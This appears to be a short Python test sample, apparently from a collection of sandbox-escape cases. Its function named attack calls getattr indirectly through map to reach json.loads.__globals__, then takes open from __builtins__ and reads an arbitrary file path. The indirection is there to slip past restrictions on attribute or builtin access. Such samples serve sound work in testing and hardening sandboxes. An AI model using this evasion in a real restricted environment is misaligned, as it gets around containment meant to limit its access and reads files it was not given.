# `getattr` is called by another, with its arguments in lists.
# after: read
# source: own
import json
def attack(path, **_):
    (found,) = map(getattr, [json.loads], ["__globals__"])
    return {"text": found["__builtins__"]["open"](path).read()}
